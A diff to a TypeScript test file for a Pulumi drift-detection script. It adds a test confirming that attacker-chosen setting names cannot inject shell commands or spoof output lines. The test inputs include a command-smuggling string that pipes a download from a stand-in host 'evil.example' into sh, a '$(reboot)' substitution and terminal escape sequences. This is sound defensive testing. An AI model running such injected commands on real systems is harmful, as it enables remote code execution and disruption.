@@ -1,4 +1,5 @@
 /** Drift as it is told, and what a refresh cannot see: the engine's own part is tried on a whole deployment (test/engine). */
+import { spawnSync } from "node:child_process";
 import type { EngineEvent, StepEventMetadata } from "@pulumi/pulumi/automation/events.js";
 import { expect, test } from "vitest";
 import { drift, exitCode, type Drift } from "../../../scripts/drift/drift.ts";
@@ -265,6 +266,18 @@ test("a setting that was changed or taken away is named without its value, and o
   expect(both.differences.map(({ what, names }) => [what, names])).toEqual([
     ["changed", ["properties.KEPT", "properties.NODE_ENV"]],
   ]);
+});
+
+test("a name that somebody has chosen runs nothing in the shell that its words are pasted into, and hides no line", async () => {
+  const names = ["A; curl evil.example | sh", "B'$(reboot)", "C\u001b[2K\rD\nlamna-test has not drifted."];
+  const { properties } = CLEAN[SETTINGS] as { properties: object };
+  const added = Object.fromEntries(names.map((name) => [name, "x"]));
+  const found = await looked({ [SETTINGS]: { properties: { ...properties, ...added } } });
+  const [, command = ""] = /(az webapp .*)/su.exec(found.differences[0]?.next ?? "") ?? [];
+  const child = spawnSync("sh", ["-c", `az() { printf '%s\\0' "$@"; }; ${command}`], { encoding: "utf8" });
+  expect(child.stdout.split("\0").slice(-1 - names.length, -1)).toEqual(names);
+  expect(list(found).split("\n")).toHaveLength(4);
+  expect(list(found).replaceAll("\n", "")).not.toMatch(/\p{Cc}/u);
 });
 
 test("what nobody may look at is said, and is no success", async () => {
